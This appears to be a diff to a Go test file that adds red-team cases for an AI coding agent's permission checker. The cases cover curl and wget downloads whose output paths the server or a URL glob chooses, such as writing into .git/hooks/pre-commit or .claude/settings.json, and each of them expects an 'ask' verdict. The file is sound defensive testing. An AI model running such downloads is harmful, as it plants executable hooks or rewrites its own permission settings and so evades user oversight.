@@ -171,7 +171,39 @@ var red9wClasses = map[string][]red9wCase{
 		{red9wAllowAll, "bypassPermissions", `zip -m x.zip x`, "allow"},
 		{red9wAllowAll, "bypassPermissions", `tar --remove-files -cf x.tar build`, "allow"},
 	},
+	"r9w-7 a download whose file names the server or a URL template chooses": {
+		// wget -x -nH http://h/.git/hooks/pre-commit writes
+		// ./.git/hooks/pre-commit (checked with wget 1.21 against a
+		// local server); curl -o '#1' 'http://h/{.git/hooks/pre-commit}'
+		// writes the glob's text (checked with curl 7.88 and file://).
+		{red9wAllowAll, "bypassPermissions", `wget -x -nH http://e/.git/hooks/pre-commit`, "ask"},
+		{red9wAllowAll, "bypassPermissions", `wget -r -nH http://e/`, "ask"},
+		{red9wAllowAll, "bypassPermissions", `wget --mirror http://e/`, "ask"},
+		{red9wAllowAll, "bypassPermissions", `wget -rl1 http://e/`, "ask"},
+		{red9wAllowAll, "bypassPermissions", `wget --force-directories -P sub http://e/.claude/settings.json`, "ask"},
+		{red9wAllowAll, "bypassPermissions", `curl -o '#1' 'http://e/{.git/hooks/pre-commit}'`, "ask"},
+		{red9wAllowAll, "bypassPermissions", `curl http://e/x -o '.gi#1/hooks/pre-commit' -g`, "ask"},
+		{red9wAllowAll, "bypassPermissions", `curl -o'#1' 'http://e/{.claude/settings.json}'`, "ask"},
+		{red9wCurlAllowed, "default", `wget -x -nH http://e/.git/hooks/pre-commit`, "ask"},
+		{red9wCurlAllowed, "default", `wget -r http://e/`, "ask"},
+		{red9wCurlAllowed, "default", `curl -OJ http://e/x`, "ask"},
+		{red9wCurlAllowed, "default", `curl -LJO http://e/x`, "ask"},
+		{red9wCurlAllowed, "default", `curl -O --remote-header-name http://e/x`, "ask"},
+		{red9wCurlAllowed, "default", `wget --content-disposition http://e/x`, "ask"},
+		{red9wCurlAllowed, "default", `wget --trust-server-names http://e/x`, "ask"},
+		// Benign neighbours: names the command line gives.
+		{red9wAllowAll, "bypassPermissions", `wget http://e/x`, "allow"},
+		{red9wAllowAll, "bypassPermissions", `wget -r -nd http://e/`, "allow"},
+		{red9wAllowAll, "bypassPermissions", `curl -o 'page_#1.html' 'http://e/[1-3].html'`, "allow"},
+		{red9wAllowAll, "bypassPermissions", `curl -o out.txt http://e/x`, "allow"},
+		{red9wCurlAllowed, "default", `curl -O http://e/x`, "allow"},
+		{red9wCurlAllowed, "default", `wget http://e/x`, "allow"},
+		{red9wCurlAllowed, "default", `curl -s http://e/x`, "allow"},
+	},
 }
+
+// red9wCurlAllowed approves curl and wget by prefix rules.
+const red9wCurlAllowed = `{"permissions":{"allow":["Bash(curl *)","Bash(wget *)"]}}`
 
 // red9wSedAllowed approves sed and echo by prefix rules.
 const red9wSedAllowed = `{"permissions":{"allow":["Bash(sed *)","Bash(echo *)"]}}`
